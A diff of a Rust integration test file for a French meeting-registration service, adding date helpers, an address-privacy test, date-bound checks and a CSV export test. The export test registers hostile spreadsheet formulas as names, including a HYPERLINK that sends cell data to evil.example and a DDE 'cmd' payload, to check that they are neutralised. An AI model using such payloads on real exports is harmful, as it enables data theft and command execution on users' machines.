@@ -3,6 +3,7 @@
 use std::io::BufReader;
 
 use axum::Router;
+use chrono::Datelike;
 use http::StatusCode;
 use passerelle_api::http::app;
 use passerelle_calendar::text::{decode_param_value, unescape_text};
@@ -25,15 +26,60 @@ pub async fn sector_id(app: &Router, uai: &str) -> i64 {
         .unwrap()
 }
 
-const TITLE: &str = "Réunion « Roquette », collège; parents, \"questions\"\net réponses";
+// Titles are one line: line breaks in `.ics` text are tested with the
+// description (`hostile::multi_line_text_is_escaped_where_shown`).
+const TITLE: &str = "Réunion « Roquette », collège; parents, \"questions\" et réponses";
+
+/// The year of the next 12 March at least a week ahead: meetings of the
+/// tests fall in it, a winter day (UTC+1 in Paris) within the two years a
+/// meeting may be planned ahead.
+pub fn year() -> i32 {
+    let today = chrono::Utc::now().date_naive();
+    let march_12 = chrono::NaiveDate::from_ymd_opt(today.year(), 3, 12).unwrap();
+    if march_12 - today >= chrono::TimeDelta::days(7) {
+        today.year()
+    } else {
+        today.year() + 1
+    }
+}
+
+/// A local time of [`year`]: `on("03-12T18:30")`.
+pub fn on(month_day_time: &str) -> String {
+    format!("{}-{month_day_time}", year())
+}
+
+/// The last Sunday of `month` in [`year`], when clocks change in Europe.
+pub fn last_sunday(month: u32) -> String {
+    let first_of_next = chrono::NaiveDate::from_ymd_opt(year(), month + 1, 1).unwrap();
+    let mut day = first_of_next.pred_opt().unwrap();
+    while day.weekday() != chrono::Weekday::Sun {
+        day = day.pred_opt().unwrap();
+    }
+    day.format("%Y-%m-%d").to_string()
+}
+
+/// The French name of the weekday of a `YYYY-MM-DD…` date.
+pub fn weekday_fr(date: &str) -> &'static str {
+    let day = chrono::NaiveDate::parse_from_str(&date[..10], "%Y-%m-%d").unwrap();
+    [
+        "lundi", "mardi", "mercredi", "jeudi", "vendredi", "samedi", "dimanche",
+    ][day.weekday().num_days_from_monday() as usize]
+}
 
 pub fn meeting(sector: i64, starts: &str, ends: &str, capacity: i32) -> Value {
+    // Registrations close the day before.
+    let deadline = chrono::NaiveDate::parse_from_str(&starts[..10], "%Y-%m-%d")
+        .unwrap()
+        .pred_opt()
+        .unwrap()
+        .format("%Y-%m-%dT12:00")
+        .to_string();
     json!({
         "title": TITLE, "description": "Café, échanges; questions",
         "sector_ids": [sector],
         "venue": {"name": "Maison des associations", "address": "8 rue du Général Renault, 75011 Paris", "lat": 48.8627, "lon": 2.3789},
         "starts_at": starts, "ends_at": ends, "time_zone": "Europe/Paris", "capacity": capacity,
-        "registration_deadline": "2099-01-01T12:00"
+        "registration_deadline": deadline
     })
 }
 
@@ -64,14 +110,19 @@ async fn meetings_and_their_calendars(db: TestDb) {
     crate::matching::ask(&app, "Julien").await;
 
     for (starts, needle) in [
-        ("2099-03-29T02:30", "n'existe pas"),
-        ("2099-10-25T02:30", "ambiguë"),
+        (format!("{}T02:30", last_sunday(3)), "n'existe pas"),
+        (format!("{}T02:30", last_sunday(10)), "ambiguë"),
     ] {
         let detail = send(
             &app,
             "POST",
             "/api/v1/meetings",
-            Some(meeting(sector, starts, "2099-10-25T04:00", 20)),
+            Some(meeting(
+                sector,
+                &starts,
+                &format!("{}T04:00", last_sunday(10)),
+                20,
+            )),
             Some(&token),
         )
         .await
@@ -82,7 +133,7 @@ async fn meetings_and_their_calendars(db: TestDb) {
         &app,
         "POST",
         "/api/v1/meetings",
-        Some(meeting(sector, "2099-03-12T18:30", "2099-03-12T20:00", 20)),
+        Some(meeting(sector, &on("03-12T18:30"), &on("03-12T20:00"), 20)),
         None,
     )
     .await
@@ -91,7 +142,7 @@ async fn meetings_and_their_calendars(db: TestDb) {
         &app,
         "POST",
         "/api/v1/meetings",
-        Some(meeting(sector, "2099-03-12T18:30", "2099-03-12T20:00", 20)),
+        Some(meeting(sector, &on("03-12T18:30"), &on("03-12T20:00"), 20)),
         Some(&token),
     )
     .await;
@@ -103,8 +154,8 @@ async fn meetings_and_their_calendars(db: TestDb) {
     );
     let created = reply.json();
     let id = created["id"].as_i64().unwrap();
-    assert_eq!(created["starts_at"], "2099-03-12T18:30");
-    assert_eq!(created["starts_at_utc"], "2099-03-12T17:30:00Z");
+    assert_eq!(created["starts_at"], on("03-12T18:30"));
+    assert_eq!(created["starts_at_utc"], on("03-12T17:30:00Z"));
 
     let outbox = db.store().await.outbox().await.unwrap();
     let invited: Vec<&str> = outbox
@@ -164,7 +215,7 @@ async fn meetings_and_their_calendars(db: TestDb) {
         &app,
         "PATCH",
         &format!("/api/v1/meetings/{id}"),
-        Some(json!({"starts_at": "2099-03-13T18:30", "ends_at": "2099-03-13T20:00"})),
+        Some(json!({"starts_at": on("03-13T18:30"), "ends_at": on("03-13T20:00")})),
         Some(&token),
     )
     .await
@@ -232,9 +283,26 @@ async fn meetings_and_their_calendars(db: TestDb) {
         feed.contains("REFRESH-INTERVAL;VALUE=DURATION:") && feed.contains("X-PUBLISHED-TTL:"),
         "{feed}"
     );
-    let person =
-        String::from_utf8(get(&app, reg["feed_url"].as_str().unwrap()).await.body).unwrap();
+    let feed = mailed_link(&db, "mimi@example.org", "confirmation", "/feed.ics").await;
+    let person = String::from_utf8(get(&app, &feed).await.body).unwrap();
     assert_eq!(parse_ics(&person).events.len(), 1);
+}
+
+/// The path of the first link holding `needle` in the last message of
+/// `kind` queued for `email`.
+pub async fn mailed_link(db: &TestDb, email: &str, kind: &str, needle: &str) -> String {
+    let outbox = db.store().await.outbox().await.unwrap();
+    let message = outbox
+        .iter()
+        .rev()
+        .find(|m| m.recipient_email == email && m.kind == kind)
+        .unwrap_or_else(|| panic!("no {kind} message to {email}"));
+    let url = message
+        .body
+        .split_whitespace()
+        .find(|w| w.starts_with("http") && w.contains(needle))
+        .unwrap_or_else(|| panic!("no link with {needle}: {}", message.body));
+    format!("/{}", url.splitn(4, '/').nth(3).unwrap())
 }
 
 /// 200 simultaneous registrations for 20 places: exactly 20 confirmed and
@@ -247,7 +315,7 @@ async fn capacity_is_atomic(db: TestDb) {
         &app,
         "POST",
         "/api/v1/meetings",
-        Some(meeting(sector, "2099-03-12T18:30", "2099-03-12T20:00", 20)),
+        Some(meeting(sector, &on("03-12T18:30"), &on("03-12T20:00"), 20)),
         Some(&token),
     )
     .await
@@ -270,7 +338,8 @@ async fn capacity_is_atomic(db: TestDb) {
         "{detail}"
     );
     // Ten people submit their form twice at once (the second time with
-    // capitals): each gets one place or rank, and one refusal.
+    // capitals): each gets one place or rank, and the second submission the
+    // same kind of answer, with a message instead of a second place.
     let mut tasks = Vec::new();
     for i in 0..210 {
         let app = app.clone();
@@ -291,28 +360,38 @@ async fn capacity_is_atomic(db: TestDb) {
             (email, reply)
         }));
     }
-    let (mut replies, mut emails, mut refusals) = (Vec::new(), Vec::new(), Vec::new());
+    let (mut replies, mut emails) = (Vec::new(), Vec::new());
     for t in tasks {
         let (email, reply) = t.await.unwrap();
-        match reply.status {
-            StatusCode::CREATED => {
-                replies.push(reply.json());
-                emails.push(email);
-            }
-            _ => refusals.push(reply.problem(StatusCode::CONFLICT)),
-        }
+        assert_eq!(reply.status, StatusCode::CREATED);
+        replies.push(reply.json());
+        emails.push(email);
     }
-    assert_eq!(refusals.len(), 10);
-    assert!(refusals[0].contains("déjà inscrite"), "{}", refusals[0]);
-    let confirmed = replies
-        .iter()
-        .filter(|r| r["status"] == "confirmed")
-        .count();
-    let waitlisted = replies
-        .iter()
-        .filter(|r| r["status"] == "waitlisted")
-        .count();
-    assert_eq!((confirmed, waitlisted), (20, 180));
+    let list = send(
+        &app,
+        "GET",
+        &format!("/api/v1/meetings/{id}/registrations"),
+        None,
+        Some(&token),
+    )
+    .await
+    .json();
+    let count = |status: &str| {
+        list.as_array()
+            .unwrap()
+            .iter()
+            .filter(|r| r["status"] == status)
+            .count()
+    };
+    assert_eq!((count("confirmed"), count("waitlisted")), (20, 180));
+    let outbox = db.store().await.outbox().await.unwrap();
+    assert_eq!(
+        outbox
+            .iter()
+            .filter(|m| m.kind == "already_registered")
+            .count(),
+        10
+    );
 
     let list = send(
         &app,
@@ -330,9 +409,9 @@ async fn capacity_is_atomic(db: TestDb) {
         .find(|r| r["status"] == "waitlisted")
         .unwrap()["id"]
         .clone();
-    let leaving_at = replies
-        .iter()
-        .position(|r| r["status"] == "confirmed")
+    // Of the people who submitted once, whose answer is surely their own.
+    let leaving_at = (10..200)
+        .find(|&i| replies[i]["status"] == "confirmed")
         .unwrap();
     let (leaving, leaving_email) = (&replies[leaving_at], &emails[leaving_at]);
     send(
@@ -411,7 +490,7 @@ async fn deadlines_holidays_and_slots(db: TestDb) {
     let token = setup(&db);
     let app = app(db.state().await);
     let sector = sector_id(&app, "0750607C").await;
-    let mut past = meeting(sector, "2099-03-12T18:30", "2099-03-12T20:00", 5);
+    let mut past = meeting(sector, &on("03-12T18:30"), &on("03-12T20:00"), 5);
     past["registration_deadline"] = json!("2020-01-01T12:00");
     let id = send(&app, "POST", "/api/v1/meetings", Some(past), Some(&token))
         .await
@@ -516,3 +595,465 @@ async fn reminders_are_queued_once(db: TestDb) {
 }
 
 both_backends!(reminders_are_queued_once);
+
+/// A browser for the pages: its CSRF cookie, and an organizer's session
+/// when signed in.
+pub struct WebClient {
+    csrf_cookie: String,
+    session: Option<String>,
+}
+
+/// What a page answered.
+pub struct WebReply {
+    pub status: StatusCode,
+    pub location: String,
+    pub body: String,
+}
+
+impl WebClient {
+    pub fn anonymous() -> Self {
+        Self {
+            csrf_cookie: hex::encode([7u8; 32]),
+            session: None,
+        }
+    }
+
+    /// Signed in as a new organizer of every sector.
+    pub async fn organizer(state: &passerelle_api::AppState, email: &str) -> Self {
+        use passerelle_api::services::{access::Role, accounts};
+        let password = "une phrase de passe assez longue 42";
+        accounts::create(state, email, Role::Organizer, password, None)
+            .await
+            .unwrap();
+        Self {
+            session: Some(accounts::sign_in(state, email, password).await.unwrap()),
+            ..Self::anonymous()
+        }
+    }
+
+    fn cookies(&self) -> String {
+        use passerelle_api::web::{CSRF_COOKIE, SESSION_COOKIE};
+        let mut c = format!("{CSRF_COOKIE}={}", self.csrf_cookie);
+        if let Some(s) = &self.session {
+            c.push_str(&format!("; {SESSION_COOKIE}={s}"));
+        }
+        c
+    }
+
+    async fn send(&self, app: &Router, request: http::request::Builder, body: String) -> WebReply {
+        let request = request
+            .header(http::header::COOKIE, self.cookies())
+            .body(axum::body::Body::from(body))
+            .unwrap();
+        let response = tower::ServiceExt::oneshot(app.clone(), request)
+            .await
+            .unwrap();
+        let status = response.status();
+        let location = response
+            .headers()
+            .get(http::header::LOCATION)
+            .map(|v| v.to_str().unwrap().to_owned())
+            .unwrap_or_default();
+        let bytes = http_body_util::BodyExt::collect(response.into_body())
+            .await
+            .unwrap()
+            .to_bytes();
+        WebReply {
+            status,
+            location,
+            body: String::from_utf8_lossy(&bytes).into_owned(),
+        }
+    }
+
+    pub async fn get(&self, app: &Router, uri: &str) -> WebReply {
+        self.send(app, http::Request::get(uri), String::new()).await
+    }
+
+    /// Posts a form with this browser's CSRF token.
+    pub async fn post(&self, app: &Router, uri: &str, fields: &[(&str, &str)]) -> WebReply {
+        use sha2::{Digest, Sha256};
+        let csrf = hex::encode(Sha256::digest(
+            format!("{}:csrf", self.csrf_cookie).as_bytes(),
+        ));
+        let body = fields
+            .iter()
+            .copied()
+            .chain([("csrf", csrf.as_str())])
+            .map(|(k, v)| format!("{k}={}", crate::common::urlencode(v)))
+            .collect::<Vec<_>>()
+            .join("&");
+        let request = http::Request::post(uri).header(
+            http::header::CONTENT_TYPE,
+            "application/x-www-form-urlencoded",
+        );
+        self.send(app, request, body).await
+    }
+}
+
+/// A meeting of the test sector, created through the API; its id.
+pub async fn create_meeting(app: &Router, token: &str, capacity: i32) -> i64 {
+    let sector = sector_id(app, "0750607C").await;
+    let reply = send(
+        app,
+        "POST",
+        "/api/v1/meetings",
+        Some(meeting(
+            sector,
+            &on("03-12T18:30"),
+            &on("03-12T20:00"),
+            capacity,
+        )),
+        Some(token),
+    )
+    .await;
+    assert_eq!(
+        reply.status,
+        StatusCode::CREATED,
+        "{}",
+        String::from_utf8_lossy(&reply.body)
+    );
+    reply.json()["id"].as_i64().unwrap()
+}
+
+async fn register(app: &Router, meeting: i64, name: &str, email: &str) -> crate::common::Reply {
+    send(
+        app,
+        "POST",
+        &format!("/api/v1/meetings/{meeting}/registrations"),
+        Some(json!({"name": name, "email": email})),
+        None,
+    )
+    .await
+}
+
+/// A registration answers with its own links only: the feed of all of a
+/// person's meetings goes by mail. Registering an address again answers
+/// exactly as for a new one, with links that open nothing, and mails the
+/// address its links instead; the page does the same.
+async fn registering_tells_nothing_about_an_address(db: TestDb) {
+    let token = setup(&db);
+    let state = db.state().await;
+    let app = app(state.clone());
+    let first = create_meeting(&app, &token, 1).await;
+    let second = create_meeting(&app, &token, 5).await;
+
+    let lea = register(&app, first, "Léa", "lea@example.org").await;
+    assert_eq!(lea.status, StatusCode::CREATED);
+    let lea = lea.json();
+    let keys = |v: &Value| {
+        let mut k: Vec<String> = v.as_object().unwrap().keys().cloned().collect();
+        k.sort();
+        k
+    };
+    assert_eq!(keys(&lea), ["cancel_url", "invite_url", "status"]);
+    assert_eq!(lea["status"], "confirmed");
+    // The registration's secret opens its invite, never a person's feed.
+    let invite = lea["invite_url"].as_str().unwrap();
+    assert_eq!(get(&app, invite).await.status, StatusCode::OK);
+    get(&app, &invite.replace("/invite.ics", "/feed.ics"))
+        .await
+        .problem(StatusCode::NOT_FOUND);
+    register(&app, second, "Léa", "lea@example.org").await;
+    let feed = mailed_link(&db, "lea@example.org", "confirmation", "/feed.ics").await;
+    let feed = String::from_utf8(get(&app, &feed).await.body).unwrap();
+    assert_eq!(parse_ics(&feed).events.len(), 2, "{feed}");
+
+    // A stranger registers Léa's address again, then a new address: the
+    // two answers cannot be told apart.
+    let again = register(&app, first, "Inconnu", "LEA@example.org").await;
+    let fresh = register(&app, first, "Tom", "tom@example.org").await;
+    assert_eq!(again.status, fresh.status);
+    assert_eq!(again.content_type, fresh.content_type);
+    let (again, fresh) = (again.json(), fresh.json());
+    assert_eq!(keys(&again), keys(&fresh));
+    assert_eq!(again["status"], fresh["status"]);
+    assert_eq!(again["status"], "waitlisted");
+    let again_invite = again["invite_url"].as_str().unwrap();
+    get(&app, again_invite).await.problem(StatusCode::NOT_FOUND);
+    send(
+        &app,
+        "POST",
+        again["cancel_url"].as_str().unwrap(),
+        None,
+        None,
+    )
+    .await
+    .problem(StatusCode::NOT_FOUND);
+    let list = send(
+        &app,
+        "GET",
+        &format!("/api/v1/meetings/{first}/registrations"),
+        None,
+        Some(&token),
+    )
+    .await
+    .json();
+    let rows: Vec<(&str, &str)> = list
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| (r["name"].as_str().unwrap(), r["status"].as_str().unwrap()))
+        .collect();
+    assert_eq!(rows, [("Léa", "confirmed"), ("Tom", "waitlisted")]);
+    // Léa is told, with her registration's links, which work.
+    let page = mailed_link(
+        &db,
+        "lea@example.org",
+        "already_registered",
+        "/inscription/",
+    )
+    .await;
+    let renewed = mailed_link(&db, "lea@example.org", "already_registered", "/invite.ics").await;
+    assert_eq!(get(&app, &renewed).await.status, StatusCode::OK);
+    let web = WebClient::anonymous();
+    let shown = web.get(&app, &page).await;
+    assert_eq!(shown.status, StatusCode::OK);
+    assert!(shown.body.contains("Votre inscription est confirmée."));
+    let feed = mailed_link(&db, "lea@example.org", "already_registered", "/feed.ics").await;
+    assert_eq!(get(&app, &feed).await.status, StatusCode::OK);
+
+    // The page: the same redirection for an address already registered
+    // and for a new one, to a page without private links.
+    let page_again = web
+        .post(
+            &app,
+            &format!("/reunions/{second}/inscription"),
+            &[("name", "Inconnu"), ("email", "lea@example.org")],
+        )
+        .await;
+    let page_new = web
+        .post(
+            &app,
+            &format!("/reunions/{second}/inscription"),
+            &[("name", "Nadia"), ("email", "nadia@example.org")],
+        )
+        .await;
+    assert_eq!(page_again.status, StatusCode::SEE_OTHER);
+    assert_eq!(
+        (page_again.status, &page_again.location),
+        (page_new.status, &page_new.location)
+    );
+    assert_eq!(
+        page_new.location,
+        format!("/reunions/{second}?inscription=confirmee")
+    );
+    let landing = web.get(&app, &page_new.location).await;
+    assert!(landing.body.contains("Votre inscription est confirmée."));
+    assert!(landing.body.contains("contient vos liens"));
+    assert!(!landing.body.contains("ins_") && !landing.body.contains("fil_"));
+    let outbox = db.store().await.outbox().await.unwrap();
+    assert_eq!(
+        outbox
+            .iter()
+            .filter(|m| m.kind == "already_registered")
+            .count(),
+        2
+    );
+}
+
+/// Names that a spreadsheet would run as formulas come out as text in
+/// every registrations export, the API's and the page's.
+async fn registration_exports_neutralise_formulas(db: TestDb) {
+    let token = setup(&db);
+    let state = db.state().await;
+    let app = app(state.clone());
+    let id = create_meeting(&app, &token, 10).await;
+    let hostile = [
+        r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#,
+        "+33 6 12 34 56 78",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(A1:A9)",
+    ];
+    for (i, name) in hostile.iter().enumerate() {
+        let reply = register(&app, id, name, &format!("p{i}@example.org")).await;
+        assert_eq!(reply.status, StatusCode::CREATED);
+    }
+    let api = send(
+        &app,
+        "GET",
+        &format!("/api/v1/meetings/{id}/registrations?format=csv"),
+        None,
+        Some(&token),
+    )
+    .await
+    .body;
+    let web = WebClient::organizer(&state, "orga@asso.example").await;
+    let page = web
+        .get(
+            &app,
+            &format!("/organisation/reunions/{id}/inscriptions.csv"),
+        )
+        .await;
+    assert_eq!(page.status, StatusCode::OK);
+    for (csv, name_column) in [(api, "name"), (page.body.into_bytes(), "nom")] {
+        let mut reader = csv::Reader::from_reader(csv.as_slice());
+        let headers = reader.headers().unwrap().clone();
+        let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
+        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        let names: Vec<&str> = rows.iter().map(|r| &r[column(name_column)]).collect();
+        let expected: Vec<String> = hostile.iter().map(|n| format!("'{n}")).collect();
+        assert_eq!(names, expected);
+        // Numbers stay numbers.
+        assert!(rows.iter().all(|r| r[column("id")].parse::<i64>().is_ok()));
+    }
+}
+
+/// A meeting starts in the next two years: a past start or one more than
+/// 730 days ahead is refused on create and on update, by the API (422
+/// naming `starts_at`) and by the organizer's page (beside the field),
+/// and nothing is stored.
+async fn meeting_dates_are_bounded(db: TestDb) {
+    let token = setup(&db);
+    let state = db.state().await;
+    let app = app(state.clone());
+    let sector = sector_id(&app, "0750607C").await;
+    let id = create_meeting(&app, &token, 10).await;
+    let local = |t: chrono::DateTime<chrono::Utc>| {
+        t.with_timezone(&chrono_tz::Europe::Paris)
+            .format("%Y-%m-%dT%H:%M")
+            .to_string()
+    };
+    let now = chrono::Utc::now();
+    let out_of_bounds = [
+        "9999-03-12T18:30".to_owned(),
+        "0001-03-12T18:30".to_owned(),
+        local(now - chrono::TimeDelta::days(1)),
+        local(now + chrono::TimeDelta::days(732)),
+    ];
+    let meetings_before = db.store().await.meetings(None, None, None).await.unwrap();
+    for starts in &out_of_bounds {
+        let ends = format!("{}T20:00", &starts[..10]);
+        let mut body = meeting(sector, starts, &ends, 10);
+        body["registration_deadline"] = json!(starts);
+        let detail = send(&app, "POST", "/api/v1/meetings", Some(body), Some(&token))
+            .await
+            .problem(StatusCode::UNPROCESSABLE_ENTITY);
+        assert!(detail.contains("starts_at"), "{starts}: {detail}");
+        let detail = send(
+            &app,
+            "PATCH",
+            &format!("/api/v1/meetings/{id}"),
+            Some(json!({"starts_at": starts, "ends_at": ends})),
+            Some(&token),
+        )
+        .await
+        .problem(StatusCode::UNPROCESSABLE_ENTITY);
+        assert!(detail.contains("starts_at"), "{starts}: {detail}");
+    }
+    let meetings_after = db.store().await.meetings(None, None, None).await.unwrap();
+    assert_eq!(
+        format!("{:?}", meetings_after),
+        format!("{:?}", meetings_before)
+    );
+    // Within the bounds, a day before the limit.
+    let latest = now + chrono::TimeDelta::days(729);
+    let body = meeting(
+        sector,
+        &local(latest),
+        &local(latest + chrono::TimeDelta::hours(1)),
+        10,
+    );
+    let reply = send(&app, "POST", "/api/v1/meetings", Some(body), Some(&token)).await;
+    assert_eq!(reply.status, StatusCode::CREATED);
+
+    // The organizer's page says it beside the field, in French.
+    let web = WebClient::organizer(&state, "orga@asso.example").await;
+    let sector_text = sector.to_string();
+    let ends = "9999-03-12T20:00";
+    let page = web
+        .post(
+            &app,
+            "/organisation/reunions",
+            &[
+                ("title", "Réunion de quartier"),
+                ("venue_name", "Maison des associations"),
+                ("venue_address", "8 rue du Général Renault, 75011 Paris"),
+                ("starts_at", "9999-03-12T18:30"),
+                ("ends_at", ends),
+                ("capacity", "20"),
+                ("sector_ids", &sector_text),
+            ],
+        )
+        .await;
+    assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY);
+    let beside = page
+        .body
+        .split(r#"id="starts_at-err""#)
+        .nth(1)
+        .expect("an error beside starts_at");
+    let beside: String = beside.chars().take(300).collect();
+    assert!(beside.contains("plus de deux ans"), "{beside}");
+    let count = db
+        .store()
+        .await
+        .meetings(None, None, None)
+        .await
+        .unwrap()
+        .len();
+    assert_eq!(count, meetings_before.len() + 1);
+}
+
+/// A meeting stored with a year the calendar cannot write (as before the
+/// bounds, or by hand) is left out of the feeds instead of breaking them.
+async fn unwritable_stored_meetings_do_not_break_feeds(db: TestDb) {
+    use passerelle_store::entities::meetings as stored;
+    use sea_orm::{ColumnTrait, EntityTrait, QueryFilter, sea_query::Expr};
+    let token = setup(&db);
+    let app = app(db.state().await);
+    let sector = sector_id(&app, "0750607C").await;
+    let good = create_meeting(&app, &token, 10).await;
+    let bad_late = create_meeting(&app, &token, 10).await;
+    let bad_early = create_meeting(&app, &token, 10).await;
+    for id in [good, bad_late, bad_early] {
+        assert_eq!(
+            register(&app, id, "Léa", "lea@example.org").await.status,
+            StatusCode::CREATED
+        );
+    }
+    let conn = sea_orm::Database::connect(db.url.as_str()).await.unwrap();
+    for (id, year) in [(bad_late, 9999), (bad_early, 1)] {
+        let starts = chrono::NaiveDate::from_ymd_opt(year, 3, 12)
+            .unwrap()
+            .and_hms_opt(17, 30, 0)
+            .unwrap()
+            .and_utc();
+        stored::Entity::update_many()
+            .col_expr(stored::Column::StartsAt, Expr::value(starts))
+            .col_expr(
+                stored::Column::EndsAt,
+                Expr::value(starts + chrono::TimeDelta::hours(2)),
+            )
+            .col_expr(stored::Column::RegistrationDeadline, Expr::value(starts))
+            .filter(stored::Column::Id.eq(id))
+            .exec(&conn)
+            .await
+            .unwrap();
+    }
+    conn.close().await.unwrap();
+    let uid = |id: i64| format!("reunion-{id}@");
+    let feed = mailed_link(&db, "lea@example.org", "confirmation", "/feed.ics").await;
+    for path in [format!("/api/v1/sectors/{sector}/meetings.ics"), feed] {
+        let reply = get(&app, &path).await;
+        assert_eq!(reply.status, StatusCode::OK, "{path}");
+        let text = String::from_utf8(reply.body).unwrap();
+        let cal = parse_ics(&text);
+        assert_eq!(cal.events.len(), 1, "{path}: {text}");
+        assert!(
+            prop(&cal.events[0].properties, "UID").starts_with(&uid(good)),
+            "{text}"
+        );
+    }
+    for id in [bad_late, bad_early] {
+        let reply = get(&app, &format!("/api/v1/meetings/{id}.ics")).await;
+        assert_eq!(reply.status, StatusCode::OK);
+        let text = String::from_utf8(reply.body).unwrap();
+        assert!(parse_ics(&text).events.is_empty(), "{text}");
+    }
+}
+
+both_backends!(
+    registering_tells_nothing_about_an_address,
+    registration_exports_neutralise_formulas,
+    meeting_dates_are_bounded,
+    unwritable_stored_meetings_do_not_break_feeds
+);
